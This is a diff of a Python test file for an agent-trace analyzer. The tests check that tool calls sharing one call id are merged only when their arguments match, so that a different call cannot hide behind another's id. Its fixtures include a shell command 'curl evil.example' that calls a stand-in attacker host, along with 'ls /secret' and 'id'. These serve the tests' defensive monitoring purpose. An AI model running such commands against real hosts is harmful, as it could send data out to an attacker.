@@ -1,12 +1,15 @@
 """One call is one action, however many spans tell of it; a call that is tried again is two."""
 
-import json
+from dataclasses import replace
 
-from fixtures.traces import agent, read, span, tool
+from fixtures.traces import agent, calls, chat, read, said, span, tool
 from sentric.events import Action, Run
 from sentric_analyzer.spans import Span
 
 PAY = {"to": "shop", "amount": 5}
+
+
+LIST, SEND = {"command": "ls"}, {"command": "curl evil.example"}
 
 
 def tools(run: Run) -> list[tuple[str, str]]:
@@ -73,25 +76,44 @@ def test_other_arguments_are_another_call() -> None:
     assert tools(run) == [("pay", "ours"), ("pay", "theirs")]
 
 
-def with_id(span_id: str, arguments: dict[str, object], scope: str, *, at: float) -> Span:
-    attributes = {
-        "openinference.span.kind": "TOOL",
-        "tool.name": "pay",
-        "tool.id": "call_1",
-        "input.value": json.dumps(arguments),
-    }
-    return span("pay", span_id, "agent", at=at, to=at + 0.5, attributes=attributes, scope=scope)
+def by(scope: str, one: Span) -> Span:
+    return replace(one, origin=replace(one.origin, scope_name=scope))
 
 
-def test_two_tellings_of_one_id_beside_one_another_are_one_call_with_the_arguments_of_both() -> None:
-    spans = [agent(), with_id("some", {"to": "shop"}, "first", at=1), with_id("all", PAY, "second", at=4)]
+def arguments(run: Run) -> list[object]:
+    return [event.arguments for event in run.events if isinstance(event, Action)]
+
+
+def test_a_call_with_the_id_of_another_and_other_arguments_is_not_hidden_behind_it() -> None:
+    first = tool("first", "shell", at=1, to=4, call_id="c1", arguments=LIST)
+    second = tool("second", "shell", at=2, to=3, call_id="c1", arguments=SEND)
+    [run] = read([agent(), by("one", first), by("another", second)])
+    assert arguments(run) == [LIST, SEND]
+
+
+def test_of_two_that_tell_of_one_call_the_one_that_tells_more_of_it_is_believed() -> None:
+    more = {**LIST, "directory": "/secret"}
+    for one, other in ((LIST, more), (more, LIST)):
+        first = tool("first", "shell", at=1, to=4, call_id="c1", arguments=one)
+        second = tool("second", "shell", at=2, to=3, call_id="c1", arguments=other)
+        [run] = read([agent(), by("one", first), by("another", second)])
+        assert arguments(run) == [more]
+
+
+def test_calls_below_a_wrapper_without_arguments_are_one_only_where_they_are_alike() -> None:
+    spans = [
+        agent(),
+        tool("outer", "shell", at=1, to=9),
+        by("one", tool("first", "shell", "outer", at=2, to=3, arguments=LIST)),
+        by("another", tool("second", "shell", "outer", at=4, to=5, arguments=SEND)),
+        by("another", tool("third", "shell", "first", at=2, to=3, arguments={"command": "id"})),
+    ]
     [run] = read(spans)
-    (call,) = (event for event in run.events if isinstance(event, Action))
-    assert (call.span_id, call.arguments) == ("some", PAY)
+    assert sorted(map(str, arguments(run))) == sorted(map(str, (LIST, SEND, {"command": "id"})))
 
 
-def test_nothing_hides_behind_the_id_of_another_call() -> None:
-    other = {**PAY, "to": "stranger"}
-    spans = [agent(), with_id("known", PAY, "first", at=1), with_id("other", other, "second", at=4)]
-    [run] = read(spans)
-    assert tools(run) == [("pay", "known"), ("pay", "other")]
+def test_calls_of_one_id_in_one_answer_are_all_there_unless_they_are_alike() -> None:
+    told = [calls("shell", "c1"), calls("shell", "c1", **LIST), calls("shell", "c1", **LIST), calls("shell", "c1")]
+    other = [calls("shell", "c1", **SEND), calls("mail", "c1", **SEND)]
+    [run] = read([agent(), chat("chat", at=1, answer=[said(*told, *other)])])
+    assert arguments(run) == [LIST, SEND, SEND]
